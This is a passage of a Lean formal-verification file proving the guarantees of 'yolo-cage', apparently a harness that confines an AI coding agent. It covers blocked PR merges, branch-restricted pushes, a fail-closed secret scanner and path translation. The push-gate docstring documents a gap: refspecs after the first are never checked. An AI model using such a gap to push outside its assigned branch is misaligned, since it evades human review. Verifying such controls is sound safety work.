    have hne : ¬(text = "" ∨ text.length < 10) := by
      rintro (h1 | h2)
      · rw [h1] at h
        simp [String.length] at h
      · omega
    unfold _scan_for_secrets
    rw [if_neg hne]
    rfl
  · intro h
    unfold _scan_for_secrets
    rw [if_pos (Or.inr h)]

/-- Witness for `scanner_unavailable_fails_closed` at the concrete input
`"0123456789"` (length exactly at the floor) with a failing probe. -/
theorem scanner_unavailable_fails_closed_witness :
    10 ≤ ("0123456789" : String).length ∧
    _scan_for_secrets false false none ("0123456789")
      = (false, true, ["scanner_unavailable"]) :=
  ⟨by decide, (scanner_unavailable_fails_closed none ("0123456789")).1 (by decide)⟩

/-- C5: every forge argv whose parsed primary command carries a
fully-blocked message, or whose (primary, subcommand) pair carries a
blocked-pair message — `gh_block_message` is exactly that table lookup, with
the fully-blocked table consulted first — is answered by the `/gh` handler
with that specific message, exit code 1, and no invocation of the forge
binary (`trace = none`), for every registered caller and every subprocess
oracle. -/
theorem gh_blocked_commands_denied :
    ∀ (req : GhRequest) (branch : String) (out : GhProcOutcome)
      (main_cmd : String) (sub_cmd : Option String) (msg : String),
      get_gh_subcommand req.args = (some main_cmd, sub_cmd) →
      gh_block_message main_cmd sub_cmd = some msg →
      handle_gh (some branch) req out = some ⟨msg ++ "\n", 1, none⟩ := by
  intro req branch out main_cmd sub_cmd msg hsub hmsg
  unfold gh_block_message at hmsg
  have hclass : classify_gh req.args = (GhCommandCategory.BLOCKED, some msg) := by
    unfold classify_gh
    rw [hsub]
    dsimp only
    cases hF : FULLY_BLOCKED_COMMANDS.lookup main_cmd with
    | none =>
      rw [hF] at hmsg
      dsimp only at hmsg
      rw [hmsg]
    | some m =>
      rw [hF] at hmsg
      dsimp only at hmsg
      rw [Option.some_inj] at hmsg
      rw [hmsg]
  unfold handle_gh
  rw [hclass]
  rfl

/-- Witness for `gh_blocked_commands_denied` at the concrete blocked pair
`gh pr merge 123`: denied with the pair's message, exit 1, binary not
invoked. -/
theorem gh_blocked_commands_denied_witness :
    handle_gh (some ("feature-x")) ⟨["pr", "merge", "123"], "/workspace", [], none⟩
      (.ran 0 ("") (""))
    = some ⟨"yolo-cage: merging PRs is not permitted. Open a PR for human review instead.\n", 1, none⟩ :=
  gh_blocked_commands_denied ⟨["pr", "merge", "123"], "/workspace", [], none⟩
    ("feature-x") (.ran 0 ("") ("")) ("pr") (some ("merge"))
    ("yolo-cage: merging PRs is not permitted. Open a PR for human review instead.")
    rfl rfl

/-- C7 (amended): every merge-family command (category `MERGE`: merge,
rebase, cherry-pick) issued while the workspace's current branch differs from
the assigned branch is refused with exit 1 and without invoking the git
binary; the denial body names the assigned branch (twice, once in a
`git checkout` instruction) — it does not mention the current branch. -/
theorem merge_off_branch_denied :
    ∀ (args : List String) (assigned cmd : String) (ctx : GitCtx) (cwd : String),
      (classify args).1 = CommandCategory.MERGE →
      get_subcommand args = some cmd →
      ctx.current ≠ some assigned →
      handle_git (some assigned) ⟨args, cwd⟩ ctx
        = some ⟨"yolo-cage: you can only " ++ cmd ++ " while on your assigned branch '" ++ assigned ++ "'.\nRun 'git checkout " ++ assigned ++ "' first.\n", 1, false, false⟩ := by
  intro args assigned cmd ctx cwd hcat hsub hcur
  rcases hcl : classify args with ⟨c, m⟩
  rw [hcl] at hcat
  dsimp at hcat
  subst hcat
  unfold handle_git
  dsimp only
  rw [hcl]
  dsimp only
  rw [hsub]
  unfold check_merge_allowed
  rw [if_neg hcur]
  rfl

/-- Witness for `merge_off_branch_denied`: `git rebase main` with the caller
bound to `feature-x` and the workspace on `main`. -/
theorem merge_off_branch_denied_witness :
    handle_git (some ("feature-x")) ⟨["rebase", "main"], "/workspace"⟩
      ⟨some ("main"), true, "", ⟨0, "", ""⟩⟩
    = some ⟨"yolo-cage: you can only rebase while on your assigned branch 'feature-x'.\nRun 'git checkout feature-x' first.\n", 1, false, false⟩ :=
  merge_off_branch_denied ["rebase", "main"] ("feature-x") ("rebase")
    ⟨some ("main"), true, "", ⟨0, "", ""⟩⟩ ("/workspace") rfl rfl (by decide)

/-- C10: whenever the branch query's outcome is a failure — non-zero exit,
missing directory, another exception, or a success whose stripped stdout is
`"HEAD"` (detached HEAD) — `get_current_branch` yields `none`, which equals
no `some`-wrapped assigned branch, so the dispatcher refuses every
merge-family command and every push against that workspace with exit 1 and
without invoking the git binary. -/
theorem undetectable_branch_refuses_merge_and_push :
    ∀ (o : RevParse) (assigned : String) (args : List String) (cwd : String)
      (hook_ok : Bool) (hook_output : String) (exec : GitResult),
      (o = RevParse.fail ∨ o = RevParse.no_dir ∨ o = RevParse.exn ∨
        ∃ out, o = RevParse.ok out ∧ out.trim = "HEAD") →
      assigned ≠ "" →
      ((classify args).1 = CommandCategory.MERGE ∨
        (classify args).1 = CommandCategory.REMOTE_WRITE) →
      get_current_branch o = none ∧
      ∃ msg, handle_git (some assigned) ⟨args, cwd⟩
          ⟨get_current_branch o, hook_ok, hook_output, exec⟩
        = some ⟨msg, 1, false, false⟩ := by
  intro o assigned args cwd hook_ok hook_output exec ho hne hcat
  have hnone : get_current_branch o = none := by
    rcases ho with h | h | h | ⟨out, h, htrim⟩
    · rw [h]; rfl
    · rw [h]; rfl
    · rw [h]; rfl
    · rw [h]
      simp [get_current_branch, htrim]
  refine ⟨hnone, ?_⟩
  rcases hcl : classify args with ⟨c, m⟩
  rcases hcat with hcat | hcat <;> rw [hcl] at hcat <;> dsimp at hcat <;> subst hcat
  · refine ⟨"yolo-cage: you can only " ++ (get_subcommand args).getD ("None") ++ " while on your assigned branch '" ++ assigned ++ "'.\nRun 'git checkout " ++ assigned ++ "' first.\n", ?_⟩
    unfold handle_git
    dsimp only
    rw [hcl]
    dsimp only
    rw [hnone]
    unfold check_merge_allowed
    rw [if_neg (by simp : ¬(none : Option String) = some assigned)]
  · refine ⟨"yolo-cage: you can only push from your assigned branch '" ++ assigned ++ "'.\nCurrent branch is '" ++ opt_repr none ++ "'.\n", ?_⟩
    unfold handle_git
    dsimp only
    rw [hcl]
    dsimp only
    rw [hnone]
    unfold check_push_allowed
    rw [if_neg (by simp : ¬(none : Option String) = some assigned)]

/-- Witness for `undetectable_branch_refuses_merge_and_push`: a failed
branch query with a merge command. -/
theorem undetectable_branch_refuses_merge_and_push_witness :
    get_current_branch RevParse.fail = none ∧
    ∃ msg, handle_git (some ("feature-x")) ⟨["merge", "origin/main"], "/workspace"⟩
        ⟨get_current_branch RevParse.fail, true, "", ⟨0, "", ""⟩⟩
      = some ⟨msg, 1, false, false⟩ :=
  undetectable_branch_refuses_merge_and_push RevParse.fail ("feature-x")
    ["merge", "origin/main"] ("/workspace") true ("") ⟨0, "", ""⟩
    (Or.inl rfl) (by decide) (Or.inl rfl)

/-- Helper: `dropWhile (· ≠ ':')` jumps over a colon-free chunk straight to
the first colon. -/
theorem dropWhile_ne_colon_append (m : List Char) :
    ∀ (l : List Char), ':' ∉ l →
      List.dropWhile (fun c => decide (c ≠ ':')) (l ++ ':' :: m) = ':' :: m := by
  intro l
  induction l with
  | nil => intro _; simp [List.dropWhile]
  | cons a l ih =>
    intro h
    have ha : a ≠ ':' := by
      intro he
      exact h (by rw [he]; exact List.mem_cons_self _ _)
    rw [List.cons_append, List.dropWhile_cons_of_pos (by simpa using ha)]
    exact ih (fun hm => h (List.mem_cons_of_mem _ hm))

/-- Helper: the destination extracted from a refspec `src:dst` whose source
chunk is colon-free is exactly `dst` (`:dst` is the `src = ""` case). -/
theorem after_first_colon_append (s d : String) (hs : ':' ∉ s.data) :
    after_first_colon (s ++ ":" ++ d) = d := by
  unfold after_first_colon
  have hdata : (s ++ ":" ++ d).data = s.data ++ ':' :: d.data := by
    rw [String.data_append, String.data_append, List.append_assoc]
    rfl
  rw [hdata, dropWhile_ne_colon_append d.data s.data hs]
  rfl

/-- Helper: a refspec built from a colon-free source chunk does contain a
colon. -/
theorem py_contains_char_refspec (s d : String) :
    py_contains_char (s ++ ":" ++ d) ':' = true := by
  unfold py_contains_char
  rw [String.data_append, String.data_append]
  have : ':' ∈ s.data ++ (":" : String).data ++ d.data := by
    apply List.mem_append_left
    apply List.mem_append_right
    exact List.mem_cons_self _ _
  exact List.elem_eq_true_of_mem this

/-- Helper: prepending a colon-free chunk to `:dst` cannot make the argument
look like a flag unless the chunk itself does. -/
theorem py_startswith_refspec_flag (s d : String)
    (hs : py_startswith s ("-") = false) :
    py_startswith (s ++ ":" ++ d) ("-") = false := by
  unfold py_startswith at hs ⊢
  rw [String.data_append, String.data_append]
  cases hl : s.data with
  | nil => rfl
  | cons a l =>
    rw [hl] at hs
    simp only [List.isPrefixOf, List.cons_append, Bool.and_eq_false_iff] at hs ⊢
    rcases hs with hs | hs
    · exact Or.inl hs
    · simp [List.isPrefixOf] at hs

/-- Helper: `get_push_refspec_target` stops at the first colon-containing
non-flag argument and returns the text after its first colon (or `none` when
that text is empty); the arguments before it — colon-free or flags — are
skipped, and the arguments after it are never examined. -/
theorem get_push_refspec_target_first_match :
    ∀ (pre : List String) (arg : String) (post : List String),
      (∀ a ∈ pre, py_contains_char a ':' = false ∨ py_startswith a ("-") = true) →
      py_contains_char arg ':' = true →
      py_startswith arg ("-") = false →
      get_push_refspec_target (pre ++ arg :: post)
        = if after_first_colon arg = "" then none
          else some (after_first_colon arg) := by
  intro pre arg post hpre harg hflag
  induction pre with
  | nil =>
    simp only [List.nil_append]
    unfold get_push_refspec_target
    rw [if_pos ⟨harg, by rw [hflag]; exact Bool.false_ne_true⟩]
  | cons a pre ih =>
    have ha := hpre a (List.mem_cons_self _ _)
    simp only [List.cons_append]
    unfold get_push_refspec_target
    have hcond : ¬(py_contains_char a ':' = true ∧ ¬py_startswith a ("-") = true) := by
      rintro ⟨h1, h2⟩
      rcases ha with h | h
      · rw [h] at h1; exact Bool.false_ne_true h1
      · exact h2 h
    rw [if_neg hcond]
    exact ih (fun b hb => hpre b (List.mem_cons_of_mem _ hb))

/-- C3 (amended): while the workspace is on the assigned branch, a push is
refused — with exit 1, a body naming the assigned branch, and without
invoking the git binary — exactly when the FIRST colon-containing non-flag
argument of the argv has a nonempty destination (the text after its first
colon, so `:dst` counts as targeting `dst`) that differs from the assigned
branch. Arguments before that first match are colon-free or flags; arguments
after it are never examined (see the counterexample
`push_second_refspec_not_checked`), and an empty destination (`src:`) does
not trigger refusal. -/
theorem push_refspec_gate_first_colon_argument :
    ∀ (pre post : List String) (arg assigned : String) (ctx : GitCtx) (cwd : String),
      (∀ a ∈ pre, py_contains_char a ':' = false ∨ py_startswith a ("-") = true) →
      py_contains_char arg ':' = true →
      py_startswith arg ("-") = false →
      after_first_colon arg ≠ "" →
      after_first_colon arg ≠ assigned →
      (classify (pre ++ arg :: post)).1 = CommandCategory.REMOTE_WRITE →
      ctx.current = some assigned →
      handle_git (some assigned) ⟨pre ++ arg :: post, cwd⟩ ctx
        = some ⟨"yolo-cage: you can only push to branch '" ++ assigned ++ "'\n", 1, false, false⟩ := by
  intro pre post arg assigned ctx cwd hpre harg hflag hne hdiff hcat hcur
  have htar := get_push_refspec_target_first_match pre arg post hpre harg hflag
  rw [if_neg hne] at htar
  rcases hcl : classify (pre ++ arg :: post) with ⟨c, m⟩
  rw [hcl] at hcat
  dsimp at hcat
  subst hcat
  unfold handle_git
  dsimp only
  rw [hcl]
  dsimp only
  unfold check_push_allowed
  rw [hcur, if_pos rfl, htar]
  dsimp only
  rw [if_neg hdiff]

/-- Witness for `push_refspec_gate_first_colon_argument`: the spec's own
scenario `git push origin HEAD:main` with the caller bound to `feature-x`
and the workspace on `feature-x`. -/
theorem push_refspec_gate_first_colon_argument_witness :
    handle_git (some ("feature-x")) ⟨["push", "origin", "HEAD:main"], "/workspace"⟩
      ⟨some ("feature-x"), true, "", ⟨0, "", ""⟩⟩
    = some ⟨"yolo-cage: you can only push to branch 'feature-x'\n", 1, false, false⟩ :=
  push_refspec_gate_first_colon_argument ["push", "origin"] [] ("HEAD:main")
    ("feature-x") ⟨some ("feature-x"), true, "", ⟨0, "", ""⟩⟩ ("/workspace")
    (by decide) rfl rfl (by decide) (by decide) rfl rfl

/-- C8: the bootstrapper is idempotent. Whenever a first run succeeds — from
any workspace state, with any outcomes of its git subprocesses — it leaves
the workspace a repository checked out to the requested branch, so a second
run on the resulting workspace (with any subprocess outcomes of its own)
succeeds with action `already_on_branch` and `cloned = false`, leaving the
workspace unchanged and still on that branch. -/
theorem bootstrap_idempotent :
    ∀ (repo_url branch : String) (ws : Workspace) (o₁ o₂ : BootOracle)
      (r : BootResult) (ws' : Workspace),
      bootstrap_workspace repo_url branch ws o₁ = .ok (r, ws') →
      bootstrap_workspace repo_url branch ws' o₂
        = .ok (⟨"already_on_branch", false⟩, ws') ∧ ws'.branch = some branch := by
  intro repo_url branch ws o₁ o₂ r ws' h
  have hurl : ¬repo_url = "" := by
    intro he
    unfold bootstrap_workspace at h
    rw [if_pos he] at h
    exact Except.noConfusion h
  have hws : ws'.has_git = true ∧ ws'.branch = some branch := by
    unfold bootstrap_workspace at h
    rw [if_neg hurl] at h
    by_cases hg : ws.has_git = true
    · rw [if_pos hg] at h
      unfold _update_existing_workspace at h
      by_cases hb : ws.branch = some branch
      · rw [if_pos hb] at h
        simp only [Except.ok.injEq, Prod.mk.injEq] at h
        obtain ⟨-, h2⟩ := h
        subst h2
        exact ⟨hg, hb⟩
      · rw [if_neg hb] at h
        dsimp only at h
        have hfin : ∀ (b : Bool),
            (if b = false then
              (Except.error ("Failed to checkout branch") : Except String (BootResult × Workspace))
             else .ok (⟨"switched_branch", false⟩, { ws with branch := some branch }))
              = .ok (r, ws') →
            ws'.has_git = true ∧ ws'.branch = some branch := by
          intro b hh
          by_cases hc : b = false
          · rw [if_pos hc] at hh
            exact Except.noConfusion hh
          · rw [if_neg hc] at hh
            simp only [Except.ok.injEq, Prod.mk.injEq] at hh
            obtain ⟨-, h2⟩ := hh
            subst h2
            exact ⟨hg, rfl⟩
        by_cases hl : o₁.local_ref_exists = true
        · rw [if_pos hl] at h
          exact hfin _ h
        · rw [if_neg hl] at h
          by_cases hr : o₁.remote_has_branch = true
          · rw [if_pos hr] at h
            exact hfin _ h
          · rw [if_neg hr] at h
            exact hfin _ h
    · rw [if_neg hg] at h
      by_cases hf : ws.has_files = true
      · rw [if_pos hf] at h
        unfold _initialize_workspace_with_existing_files at h
        split_ifs at h <;>
          first
            | exact Except.noConfusion h
            | (simp only [Except.ok.injEq, Prod.mk.injEq] at h
               obtain ⟨-, h2⟩ := h
               subst h2
               exact ⟨rfl, rfl⟩)
      · rw [if_neg hf] at h
        unfold _clone_fresh_workspace at h
        split_ifs at h <;>
          first
            | exact Except.noConfusion h
            | (simp only [Except.ok.injEq, Prod.mk.injEq] at h
               obtain ⟨-, h2⟩ := h
               subst h2
               exact ⟨rfl, rfl⟩)
  obtain ⟨hg', hb'⟩ := hws
  refine ⟨?_, hb'⟩
  unfold bootstrap_workspace
  rw [if_neg hurl, if_pos hg']
  unfold _update_existing_workspace
  rw [if_pos hb']

/-- Witness for `bootstrap_idempotent`: a first run on an empty workspace
with a successful clone and checkout of a branch existing on the remote,
then a second run. -/
theorem bootstrap_idempotent_witness :
    bootstrap_workspace ("https://github.com/o/r.git") ("feature-x")
      ⟨true, true, some ("feature-x")⟩
      ⟨true, true, true, true, true, true, true, true, true, true, true, true⟩
    = .ok (⟨"already_on_branch", false⟩, ⟨true, true, some ("feature-x")⟩) :=
  (bootstrap_idempotent ("https://github.com/o/r.git") ("feature-x")
    ⟨false, false, none⟩
    ⟨true, true, true, true, true, true, true, true, true, true, true, true⟩
    ⟨true, true, true, true, true, true, true, true, true, true, true, true⟩
    ⟨"checked_out", true⟩ ⟨true, true, some ("feature-x")⟩ rfl).1

/-- Helper: a string literally extended with a suffix starts with itself. -/
theorem py_startswith_append (a b : String) : py_startswith (a ++ b) a = true := by
  unfold py_startswith
  rw [String.data_append, List.isPrefixOf_iff_prefix]
  exact List.prefix_append _ _

/-- C9: path translation rewrites the agent's logical workspace root to the
per-branch dispatcher workspace and preserves relative subpaths — for both
the `/workspace` mapping of `_translate_cwd` (`dispatcher/app.py`) and the
`/home/dev/workspace` mapping of `translate_cwd` (`dispatcher/paths.py`) —
so the suffix after `<root>/<branch>/` is the original relative path, while
any path that neither equals the logical root nor lies beneath it passes
through unchanged. -/
theorem translate_cwd_preserves_relative_path :
    ∀ (branch rel p : String),
      _translate_cwd ("/workspace") branch = WORKSPACE_ROOT ++ "/" ++ branch ∧
      _translate_cwd ("/workspace/" ++ rel) branch
        = WORKSPACE_ROOT ++ "/" ++ branch ++ "/" ++ rel ∧
      (p ≠ "/workspace" → py_startswith p ("/workspace/") = false →
        _translate_cwd p branch = p) ∧
      translate_cwd AGENT_WORKSPACE branch = WORKSPACE_ROOT ++ "/" ++ branch ∧
      translate_cwd (AGENT_WORKSPACE ++ "/" ++ rel) branch
        = WORKSPACE_ROOT ++ "/" ++ branch ++ "/" ++ rel ∧
      (p ≠ AGENT_WORKSPACE → py_startswith p (AGENT_WORKSPACE ++ "/") = false →
        translate_cwd p branch = p) := by
  intro branch rel p
  refine ⟨rfl, ?_, ?_, rfl, ?_, ?_⟩
  · have hne : ("/workspace/" ++ rel) ≠ "/workspace" := by
      intro he
      have hlen := congrArg String.length he
      rw [String.length_append,
        show ("/workspace/" : String).length = 11 from rfl,
        show ("/workspace" : String).length = 10 from rfl] at hlen
      omega
    have hdrop : py_drop ("/workspace/" ++ rel) 11 = rel := by
      unfold py_drop
      rw [String.data_append]
      rw [show (11 : Nat) = ("/workspace/" : String).data.length from rfl]
      rw [List.drop_left]
    unfold _translate_cwd
    rw [if_neg hne, if_pos (py_startswith_append ("/workspace/") rel), hdrop]
  · intro h1 h2
    unfold _translate_cwd
    rw [if_neg h1, if_neg (by rw [h2]; exact Bool.false_ne_true)]
  · have hne : (AGENT_WORKSPACE ++ "/" ++ rel) ≠ AGENT_WORKSPACE := by
      intro he
      have hlen := congrArg String.length he
      rw [String.length_append,
        show (AGENT_WORKSPACE ++ "/" : String).length = 20 from rfl,
        show (AGENT_WORKSPACE : String).length = 19 from rfl] at hlen
      omega
    have hdrop : py_drop (AGENT_WORKSPACE ++ "/" ++ rel) (AGENT_WORKSPACE.length + 1) = rel := by
      unfold py_drop
      rw [String.data_append]
      rw [show AGENT_WORKSPACE.length + 1
            = (AGENT_WORKSPACE ++ "/" : String).data.length from rfl]
      rw [List.drop_left]
    unfold translate_cwd
    rw [if_neg hne, if_pos (py_startswith_append (AGENT_WORKSPACE ++ "/") rel), hdrop]
  · intro h1 h2
    unfold translate_cwd
    rw [if_neg h1, if_neg (by rw [h2]; exact Bool.false_ne_true)]

/-- Witness for `translate_cwd_preserves_relative_path`: a path beneath each
logical root and a path outside each logical root. -/
theorem translate_cwd_preserves_relative_path_witness :
    _translate_cwd ("/workspace/src/app.py") ("feature-x")
      = "/workspaces/feature-x/src/app.py" ∧
    _translate_cwd ("/etc/passwd") ("feature-x") = "/etc/passwd" ∧
    translate_cwd ("/home/dev/workspace/src/app.py") ("feature-x")
      = "/workspaces/feature-x/src/app.py" ∧
    translate_cwd ("/tmp/x") ("feature-x") = "/tmp/x" :=
  ⟨(translate_cwd_preserves_relative_path ("feature-x") ("src/app.py") ("/etc/passwd")).2.1,
   (translate_cwd_preserves_relative_path ("feature-x") ("src/app.py") ("/etc/passwd")).2.2.1
     (by decide) (by decide),
   (translate_cwd_preserves_relative_path ("feature-x") ("src/app.py") ("/tmp/x")).2.2.2.2.1,
   (translate_cwd_preserves_relative_path ("feature-x") ("src/app.py") ("/tmp/x")).2.2.2.2.2
     (by decide) (by decide)⟩

end YoloCage
